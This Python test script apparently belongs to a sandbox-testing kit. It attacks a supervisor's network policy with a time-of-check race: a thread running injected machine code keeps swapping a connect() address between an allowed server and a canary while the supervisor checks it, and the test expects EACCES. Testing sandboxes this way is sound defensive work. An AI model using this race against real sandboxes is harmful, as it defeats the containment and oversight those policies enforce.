"""Another thread changes the address while the supervisor decides on it.

A thread in machine code flips the address between a server that the policy
allows and the canary, all the time.

attacks: the copy of the address that the supervisor decides on
effect: the canary outside accepts a connection
refused: EACCES
topic: notify races, the address
"""

import ctypes
import errno
import mmap
import os
import socket
import threading
import time

from kit import address, family, how, inside, libc, machine_code, say, sockaddr, target

FLIP = (b"\x48\x89\x37"       # mov [rdi], rsi
        b"\xf3\x90"           # pause
        b"\x48\x89\x17"       # mov [rdi], rdx
        b"\xf3\x90"           # pause
        b"\x83\x39\x00"       # cmp dword [rcx], 0
        b"\x74\xf1"           # je, back to the start
        b"\xc3")              # ret

shared = mmap.mmap(-1, mmap.PAGESIZE)  # MAP_SHARED: children see it
start = ctypes.addressof(ctypes.c_char.from_buffer(shared))
stop = ctypes.c_uint32.from_buffer(shared, 256)
allowed, denied = sockaddr(target["allowed"], 80), sockaddr(*address())
shared[:len(allowed)] = allowed
values = [int.from_bytes(name[:8], "little") for name in (allowed, denied)]
flip = machine_code(FLIP, None, ctypes.c_void_p, ctypes.c_uint64, ctypes.c_uint64, ctypes.c_void_p)


def flipping():
    flip(start, values[0], values[1], start + 256)


def begin():
    """Flips in a thread, or in a process with which the memory is shared."""
    if how == "process":
        child = os.fork()
        if child == 0:
            flipping()
            os._exit(0)
        return lambda: os.waitpid(child, 0)
    thread = threading.Thread(target=flipping)
    thread.start()
    return thread.join


def until_it_flips():
    """Waits for the other thread: it may not have been given a processor yet."""
    while shared[:len(allowed)] != denied:
        time.sleep(0)


def won(connection):
    """Whether the connection leads to the canary, which only the control may see."""
    return not inside and connection.getpeername()[1] != 80


wait = begin()
until_it_flips()
results = {}
deadline = time.monotonic() + target["seconds"]
tries = 0
while tries < (target["tries"] if inside else 5000) and time.monotonic() < deadline:
    tries += 1
    with socket.socket(family()) as s:
        if how == "non-blocking":
            s.setblocking(False)
        failed = libc.connect(s.fileno(), ctypes.c_void_p(start), len(allowed)) != 0
        code = ctypes.get_errno() if failed else 0
        results[code] = results.get(code, 0) + 1
        if not failed and won(s):
            break
stop.value = 1
wait()
say(tries, "tries:", {errno.errorcode.get(code, code): count for code, count in results.items()})
if results.get(errno.EACCES):
    say("refused EACCES")
